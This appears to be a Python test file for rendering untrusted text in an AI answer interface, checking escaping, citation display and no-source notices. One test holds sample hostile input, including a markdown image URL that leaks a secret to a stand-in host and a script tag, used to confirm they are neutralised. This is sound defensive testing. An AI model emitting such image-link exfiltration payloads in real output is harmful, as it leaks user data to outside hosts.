"""Rendering untrusted text: no HTML, no images, no links; citations shown as written."""

from markdown_it import MarkdownIt

from gptbuilder.types import Answer, Citation, Hit
from gptbuilder.ui.render import escape_untrusted, render_answer


def test_images_html_and_links_are_neutralised():
    evil = (
        "See ![x](http://evil.invalid/leak?q=secret) and [click](http://evil.invalid) "
        '<img src="http://evil.invalid/a.png"> <script>alert(1)</script> '
        "plain www.evil.invalid/path and https://evil.invalid/x_y"
    )
    out = escape_untrusted(evil)
    html = MarkdownIt("commonmark").render(out)  # a stand-in for the browser's renderer
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "`www.evil.invalid/path`" in out and "`https://evil.invalid/x_y`" in out
    assert "`http://evil.invalid/leak?q=secret`)" in out


def test_answer_with_sources():
    hit = Hit(1, 1, "report.pdf", 3, 0, 20, "Flight control laws generate commands.", 0.9)
    answer = Answer("Laws generate commands [1].", (Citation(1, hit),), (hit,))
    out = render_answer(answer)
    assert "**[1]**" in out and "**Sources**" in out
    assert "report.pdf, page 3" in out
    assert "> Flight control laws generate commands." in out


def test_answer_without_documents_says_so():
    out = render_answer(Answer("Hello there.", (), ()))
    assert "not based on any document" in out
